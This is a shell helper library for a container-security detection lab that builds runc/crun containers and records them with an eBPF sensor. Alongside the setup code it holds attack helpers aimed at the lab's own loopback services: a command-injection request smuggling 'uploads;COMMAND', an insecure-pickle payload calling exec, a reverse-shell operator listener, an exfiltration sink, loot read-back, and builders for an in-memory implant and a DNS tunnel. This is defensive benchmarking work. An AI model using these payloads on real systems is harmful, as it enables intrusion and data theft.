# Helpers of the lab: small real containers run by runc (or crun: LAB_RUNTIME=crun), driven by scenario
# scripts, recorded by `kestrel record`. Sourced by lab/run.sh, lab/normal.sh, bench/sensor.sh, bench/detect.sh
# and scripts/setup. Root required (runc, cgroups, overlay mounts, the eBPF sensor).
#
# Four images:
#   busybox  a static busybox and a small /etc (built in a moment, nothing downloaded)
#   web      Debian bookworm (debootstrap, minbase) with nginx, netcat, wget and procps, from Debian's
#            packages; built once into $LAB_CACHE, each container gets an overlay over it
#   app      Debian bookworm (minbase) with Python 3: a small notes service (tools/app.py: SQLite, uploads,
#            reports by a shell command, a background maintenance thread), driven by tools/appload.py's
#            random request mix — the lab's least regular workload
#   db       Debian bookworm (minbase) with PostgreSQL 15, run as its image runs it (the server as postgres,
#            a process per client), driven from the host by tools/dbload.py's mix of an application's queries
# All get Docker's default capability set, share the host's network (scenarios reach listeners on
# 127.0.0.1) and live in the cgroup $LAB_PARENT/NAME, which kestrel maps to container NAME.

LAB_PARENT=${LAB_PARENT:-kestrel-lab}
LAB_RUNTIME=${LAB_RUNTIME:-runc}
LAB_DIR=${LAB_DIR:-/tmp/kestrel-lab}
LAB_CACHE=${LAB_CACHE:-${XDG_CACHE_HOME:-$HOME/.cache}/kestrel/lab}
LAB_SRC=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
DEBIAN_SUITE=bookworm
DEBIAN_MIRROR=${DEBIAN_MIRROR:-http://deb.debian.org/debian}
WEB_PACKAGES=nginx-light,netcat-openbsd,procps,wget,ca-certificates
APP_PACKAGES=python3,procps
DB_PACKAGES=postgresql-15,procps

lab_log() { printf 'lab: %s\n' "$*" >&2; }

# rt ARGS...: the lab's container runtime. crun refuses a hybrid cgroup host (v1 controllers, cgroup2 at
# /sys/fs/cgroup/unified) whose cgroup2 has a controller left; there it runs in a mount namespace of its own
# with cgroup2 mounted at /sys/fs/cgroup — the same hierarchy, so its containers land in $LAB_PARENT/NAME
# where the sensor watches, and the host's mounts are not touched.
rt() {
  case "$LAB_RUNTIME" in
    runc) runc "$@" ;;
    crun)
      if [ "$(stat -fc %T /sys/fs/cgroup)" = cgroup2fs ]; then crun "$@"; else
        unshare -m --propagation private sh -c 'mount -t cgroup2 cgroup2 /sys/fs/cgroup && exec crun "$@"' crun "$@"
      fi ;;
    *) lab_log "unknown runtime $LAB_RUNTIME (runc or crun)"; return 1 ;;
  esac
}

# free_port: a TCP port nobody listens on now (scenarios run in parallel in the tests).
free_port() { python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'; }

# debian_rootfs [web|app|db]: prints the path of a Debian image's root file system (web: nginx; app: Python; db:
# PostgreSQL), building it on first use (30–40 s from the Debian mirror; 60 MB, db 470 MB with LLVM for PostgreSQL's
# JIT). Built aside and renamed: an interrupted build leaves nothing half-made behind.
debian_rootfs() {
  local image=${1:-web} packages probe
  case "$image" in
    web) packages=$WEB_PACKAGES; probe=usr/sbin/nginx ;;
    app) packages=$APP_PACKAGES; probe=usr/bin/python3 ;;
    db) packages=$DB_PACKAGES; probe=usr/lib/postgresql/15/bin/postgres ;;
    *) lab_log "no Debian image $image"; return 1 ;;
  esac
  local root="$LAB_CACHE/debian-$DEBIAN_SUITE-$image"
  if [ ! -x "$root/$probe" ]; then
    mkdir -p "$LAB_CACHE"
    # One builder at a time (lab tests run in parallel); the others wait and find it built.
    exec 9> "$LAB_CACHE/.build.lock"; flock 9
  fi
  if [ ! -x "$root/$probe" ]; then
    command -v debootstrap >/dev/null || { lab_log "debootstrap is missing (scripts/setup installs it)"; return 1; }
    mkdir -p "$LAB_CACHE"
    local tmp="$root.tmp.$$" log="$LAB_CACHE/debootstrap-$image.log"
    rm -rf "$tmp"
    lab_log "building the $image image (debootstrap $DEBIAN_SUITE with $packages) into $root"
    if ! debootstrap --variant=minbase --include="$packages" "$DEBIAN_SUITE" "$tmp" "$DEBIAN_MIRROR" > "$log" 2>&1; then
      lab_log "debootstrap failed; its log: $log"; tail -5 "$log" >&2
      rm -rf "$tmp"; return 1
    fi
    if [ "$image" = db ]; then
      # Debian's package made the cluster "main" (/etc/postgresql/15/main, its data in /var/lib/postgresql/15/main);
      # it is opened to local clients without a password: the lab's clients are the host's, over 127.0.0.1.
      local hba="$tmp/etc/postgresql/15/main/pg_hba.conf"
      [ -s "$tmp/var/lib/postgresql/15/main/PG_VERSION" ] && [ -f "$hba" ] || {
        lab_log "the PostgreSQL package made no cluster; see $log"; rm -rf "$tmp"; return 1; }
      printf 'local all all trust\nhost all all 127.0.0.1/32 trust\n' > "$hba"
    fi
    rm -rf "$tmp"/var/cache/apt/archives/*.deb "$tmp"/var/lib/apt/lists/* "$tmp"/usr/share/doc/* "$tmp"/usr/share/man/*
    rm -rf "$root"; mv "$tmp" "$root"
  fi
  exec 9>&-
  printf '%s\n' "$root"
}

# lab_built NAME SOURCE GCC_OPTION...: prints the path of $LAB_CACHE/NAME, compiled on the host from tools/SOURCE
# when missing or older than its source.
lab_built() {
  local out="$LAB_CACHE/$1" src="$LAB_SRC/tools/$2"
  if [ ! -x "$out" ] || [ "$src" -nt "$out" ]; then
    mkdir -p "$LAB_CACHE"
    gcc "${@:3}" -O2 -Wall -o "$out.tmp.$$" "$src" && mv "$out.tmp.$$" "$out"
  fi
  printf '%s\n' "$out"
}

# lab_dns2tcp: prints the directory holding dns2tcp's client and server (dns2tcpc, dns2tcpd: Debian's package,
# version 0.5.2 in bookworm), unpacked into $LAB_CACHE/dns2tcp from the package itself — not installed, since the
# package's init script would start a server on the host's port 53.
lab_dns2tcp() {
  local dir="$LAB_CACHE/dns2tcp"
  if [ ! -x "$dir/usr/bin/dns2tcpc" ] || [ ! -x "$dir/usr/bin/dns2tcpd" ]; then
    mkdir -p "$LAB_CACHE"
    local tmp; tmp=$(mktemp -d "$LAB_CACHE/.dns2tcp.XXXXXX")
    (cd "$tmp" && apt-get download -qq dns2tcp >/dev/null 2>&1) && dpkg-deb -x "$tmp"/dns2tcp_*.deb "$tmp/root" || {
      lab_log "could not fetch Debian's dns2tcp package (apt-get download dns2tcp; scripts/setup does it)"
      rm -rf "$tmp"; return 1; }
    rm -rf "$dir"; mv "$tmp/root" "$dir"; rm -rf "$tmp"
  fi
  printf '%s\n' "$dir/usr/bin"
}

# lab_helper: prints the path of the static helper (ptrace, setuid attempts).
lab_helper() { lab_built labhelper labhelper.c -static; }

# make_bundle NAME [busybox|web|app|db] [PORT]: an OCI bundle in $LAB_DIR/NAME (`runc spec`'s, which crun runs too).
make_bundle() {
  local name=$1 image=${2:-busybox} port=${3:-8080} b="$LAB_DIR/$1"
  unmount_bundle "$name"
  rm -rf "$b"; mkdir -p "$b/rootfs"
  local args='["/bin/sleep", "3600"]'
  local user=0:0
  case "$image" in
    busybox)
      mkdir -p "$b/rootfs/bin" "$b/rootfs/tmp" "$b/rootfs/etc" "$b/rootfs/usr/bin" "$b/rootfs/proc" "$b/rootfs/mnt" \
        "$b/rootfs/sys" "$b/rootfs/dev"
      cp "$(command -v busybox)" "$b/rootfs/bin/busybox"
      local a
      for a in $(busybox --list); do [ "$a" = busybox ] || ln -sf busybox "$b/rootfs/bin/$a"; done
      printf 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/var/www:/bin/false\n' > "$b/rootfs/etc/passwd"
      printf 'root:x:0:\nwww:x:33:\n' > "$b/rootfs/etc/group"
      printf 'root:*:19000:0:99999:7:::\nwww:!:19000:0:99999:7:::\n' > "$b/rootfs/etc/shadow"
      ;;
    web|app|db)
      local lower; lower=$(debian_rootfs "$image") || return 1
      mkdir -p "$b/upper" "$b/work"
      mount -t overlay overlay -o "lowerdir=$lower,upperdir=$b/upper,workdir=$b/work" "$b/rootfs"
      cp /etc/resolv.conf "$b/rootfs/etc/resolv.conf" 2>/dev/null || true
      ;;&
    app)
      mkdir -p "$b/rootfs/srv/app/static"
      cp "$LAB_SRC/tools/app.py" "$b/rootfs/srv/app/app.py"
      local f; for f in app.css app.js logo.svg help.html; do
        head -c "$(( (RANDOM % 16 + 1) * 1024 ))" /dev/urandom | base64 > "$b/rootfs/srv/app/static/$f"
      done
      args="[\"/usr/bin/python3\", \"/srv/app/app.py\", \"$port\"]"
      ;;
    db)
      # PostgreSQL 15 as its image runs it: the server (postmaster) as the user postgres, a process per client
      # connection and its background workers (checkpointer, WAL writer, autovacuum…), listening on 127.0.0.1.
      args="[\"/usr/lib/postgresql/15/bin/postgres\", \"-D\", \"/var/lib/postgresql/15/main\", \"-c\", \"config_file=/etc/postgresql/15/main/postgresql.conf\", \"-c\", \"port=$port\", \"-c\", \"listen_addresses=127.0.0.1\"]"
      # The image's own postgres user and group, and ssl-cert (which may read the server's TLS key), by name.
      local uid gid ssl
      uid=$(awk -F: '$1 == "postgres" { print $3 }' "$lower/etc/passwd")
      gid=$(awk -F: '$1 == "postgres" { print $3 }' "$lower/etc/group")
      ssl=$(awk -F: '$1 == "ssl-cert" { print $3 }' "$lower/etc/group")
      [ -n "$uid" ] && [ -n "$gid" ] && [ -n "$ssl" ] || {
        lab_log "the db image has no postgres user or ssl-cert group"; return 1; }
      user=$uid:$gid:$ssl
      ;;
    web)
      rm -f "$b/rootfs/etc/nginx/sites-enabled/"*
      cat > "$b/rootfs/etc/nginx/sites-enabled/lab" <<EOF
server {
  listen 127.0.0.1:$port;
  root /var/www/html;
  access_log /var/log/nginx/access.log;
  location / { try_files \$uri \$uri/ =404; }
}
EOF
      printf '<html><body>kestrel lab</body></html>\n' > "$b/rootfs/var/www/html/index.html"
      args='["/usr/sbin/nginx", "-g", "daemon off;"]'
      ;;
    *) lab_log "unknown image $image"; return 1 ;;
  esac
  cp "$(lab_helper)" "$b/rootfs/bin/labhelper"
  (cd "$b" && runc spec)
  python3 - "$b/config.json" "$name" "$LAB_PARENT" "$args" "$LAB_RUNTIME" "$user" <<'PY'
import json, sys
path, name, parent, args, runtime = sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4]), sys.argv[5]
uid, gid, *groups = (int(x) for x in sys.argv[6].split(":"))  # UID:GID[:MORE_GIDS…]
c = json.load(open(path))
c["process"]["terminal"] = False
c["process"]["args"] = args
c["process"]["user"] = {"uid": uid, "gid": gid, "additionalGids": groups}
# Docker's default capabilities: what a container usually runs with.
caps = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD", "CAP_NET_RAW", "CAP_SETGID",
        "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_KILL",
        "CAP_AUDIT_WRITE"]
for k in ("bounding", "effective", "permitted"):
    # A process that is not root starts with none in effect, as under Docker: the bounding set only.
    c["process"]["capabilities"][k] = caps if uid == 0 or k == "bounding" else []
c["process"]["capabilities"].pop("inheritable", None)
c["process"]["capabilities"].pop("ambient", None)
c["root"]["readonly"] = False
c["linux"]["cgroupsPath"] = f"/{parent}/{name}"
c["linux"]["namespaces"] = [n for n in c["linux"]["namespaces"] if n["type"] != "network"]
# crun on cgroup2 enforces the device rules with an eBPF program and raises RLIMIT_MEMLOCK for it first, which
# needs CAP_SYS_RESOURCE (not there in every sandbox, CI's included): the lab's containers go without it.
if runtime == "crun":
    c["linux"].get("resources", {}).pop("devices", None)
json.dump(c, open(path, "w"), indent=1)
PY
}

# unmount_bundle NAME: a Debian image's overlay, if mounted.
unmount_bundle() {
  local r="$LAB_DIR/$1/rootfs"
  if mountpoint -q "$r" 2>/dev/null; then umount "$r" 2>/dev/null || umount -l "$r"; fi
}

# start NAME / stop NAME: the container's init is `sleep` (busybox), nginx (web) or the app; scenario steps run
# through `runc exec` (or `crun exec`).
# A stopped container of the same name (left by an interrupted run) is deleted first; a running one is not.
start() { rt delete "$1" >/dev/null 2>&1 || true; rt run -d --bundle "$LAB_DIR/$1" "$1" >/dev/null; }
stop() {
  rt kill "$1" KILL 2>/dev/null || true
  local i; for i in $(seq 50); do rt state "$1" 2>/dev/null | grep -q '"status": "running"' || break; sleep 0.1; done
  rt delete -f "$1" 2>/dev/null || true
  unmount_bundle "$1"
}

# inside NAME CMD...: run a command inside the container (as root); inside_as UID:GID NAME CMD...: as a user.
inside() { local n=$1; shift; rt exec "$n" "$@"; }
inside_as() { local u=$1 n=$2; shift 2; rt exec --user "$u" "$n" "$@"; }

# wait_http URL: until the URL answers (at most 10 s), fetched from the host.
wait_http() {
  local i; for i in $(seq 100); do busybox wget -q -O /dev/null "$1" 2>/dev/null && return 0; sleep 0.1; done
  lab_log "$1 does not answer"; return 1
}

# wait_ready IMAGE PORT: until the container's service answers — web and app over HTTP, db once its server accepts
# a client (at most 10 s); busybox serves nothing.
wait_ready() {
  case "$1" in
    busybox) ;;
    db) local i; for i in $(seq 100); do python3 "$LAB_SRC/tools/dbload.py" "$2" --sql "SELECT 1" >/dev/null 2>&1 && return 0
          sleep 0.1; done; lab_log "the database on port $2 does not answer"; return 1 ;;
    *) wait_http "http://127.0.0.1:$2/" ;;
  esac
}

# web_traffic URL N: N ordinary requests from the host (the normal behaviour of a web container).
web_traffic() {
  local i; for i in $(seq "$2"); do busybox wget -q -O /dev/null "$1" 2>/dev/null || true; done
}

# scenario_image FILE: the image a scenario script runs in (its IMAGE; busybox if it sets none).
scenario_image() { (IMAGE=busybox; source "$1"; echo "$IMAGE"); }

# app_traffic PORT N: N requests of the app image's ordinary mix (tools/appload.py), from the host, then one
# disk-usage report: every normal phase holds the app's own shell (`sh -c du …`), not only most.
app_traffic() {
  python3 "$LAB_SRC/tools/appload.py" "$1" "$2"
  busybox wget -q -O /dev/null "http://127.0.0.1:$1/report?dir=data" 2>/dev/null || true
}

# pg_udf: the path of the db-load-library scenario's PostgreSQL extension library (tools/pgudf.c), built on the host
# (the host's gcc and C library: Debian bookworm's, as the db image's).
pg_udf() { lab_built pgudf.so pgudf.c -shared -fPIC -s; }
# lab_implant: prints the path of the in-memory implant (tools/implant.c), built on the host.
lab_implant() { lab_built implant.so implant.c -shared -fPIC -s -pthread; }

# db_traffic PORT N: N units of an application's ordinary use of the db image's PostgreSQL (tools/dbload.py), from
# the host. db_sql PORT SQL...: statements run once, as the database's superuser, their rows printed.
db_traffic() { python3 "$LAB_SRC/tools/dbload.py" "$1" "$2"; }
db_sql() { python3 "$LAB_SRC/tools/dbload.py" "$1" --sql "${@:2}"; }

# wait_listening PORT: returns once something listens on the host's TCP port PORT (or after 5 s).
wait_listening() { local i; for i in $(seq 50); do ss -ltn "sport = :$1" | grep -q LISTEN && break; sleep 0.1; done; }

# tcp_listener NAME MODE: a listener on the host's loopback (port in LISTEN_PORT, pid in LISTENER) that accepts one
# connection and writes to $LAB_DIR/NAME.PID.out. MODE shell: a reverse shell's operator — it sends `id`, `uname -a`
# and `exit` and writes what comes back; MODE sink: it counts the bytes it is sent ("bytes N"). Returns once it
# listens; listener_stop ends it.
tcp_listener() {
  LISTEN_PORT=$(free_port)
  python3 - "$LISTEN_PORT" "$2" > "$LAB_DIR/$1.$$.out" 2>&1 <<'PY' &
import socket, sys
s = socket.create_server(("127.0.0.1", int(sys.argv[1])))
s.settimeout(15)
c, _ = s.accept()
c.settimeout(5)
shell = sys.argv[2] == "shell"
if shell:
    c.sendall(b"id\nuname -a\nexit\n")
n = 0
try:
    while (data := c.recv(65536)):
        n += len(data)
        if shell:
            sys.stdout.write(data.decode(errors="replace"))
except socket.timeout:
    pass
if not shell:
    print("bytes", n)
PY
  LISTENER=$!
  wait_listening "$LISTEN_PORT"
}
shell_listener() { tcp_listener shell-listener shell; }
# listener_stop: ends the host-side listener whose pid is in LISTENER (tcp_listener's, or a scenario's own).
listener_stop() { [ -z "${LISTENER:-}" ] || kill "$LISTENER" 2>/dev/null || true; }

# app_inject PORT COMMAND: the app's command injection — a report request whose directory is `uploads;COMMAND`,
# which the app's shell runs after its `du` (waits at most 15 s for the app's answer).
app_inject() {
  local q; q=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "uploads;$2")
  timeout 15 busybox wget -q -O /dev/null "http://127.0.0.1:$1/report?dir=$q" || true
}

# app_unpickle PORT CODE: the app's insecure deserialisation — a "backup" posted to /import whose pickle rebuilds its
# object by calling exec(CODE), which runs in the app's own process, in the thread serving the request (waits at
# most 15 s for the app's answer, a refusal: what exec returns is no backup).
app_unpickle() {
  timeout 20 python3 - "$1" "$2" <<'PY' || true
import pickle, sys, urllib.error, urllib.request
class Backup:
    def __reduce__(self):
        return (exec, (sys.argv[2],))
req = urllib.request.Request(f"http://127.0.0.1:{sys.argv[1]}/import", data=pickle.dumps(Backup()), method="POST")
try:
    urllib.request.urlopen(req, timeout=15).read()
except urllib.error.HTTPError:
    pass
PY
}

# app_read_back PORT OUT: the attacker reads loot stored as a note back through the app's own search (every note
# naming an account, `root:x`), each note's body into OUT.
app_read_back() {
  timeout 20 python3 - "$1" > "$2" <<'PY' || true
import json, sys, urllib.request
base = f"http://127.0.0.1:{sys.argv[1]}"
for note, _ in json.load(urllib.request.urlopen(base + "/search?q=root:x", timeout=10)):
    print(json.load(urllib.request.urlopen(f"{base}/notes/{note}", timeout=10))["body"])
PY
}

# sink_listener: a listener that counts what one connection sends it (see tcp_listener; $LAB_DIR/sink.PID.out).
sink_listener() { tcp_listener sink sink; }

# attack_starts NAME: the marker that separates normal behaviour from the attack in a recording (an exec of
# `true` with this argument, inside the container).
attack_starts() { inside "$1" /bin/true kestrel-attack-start; }
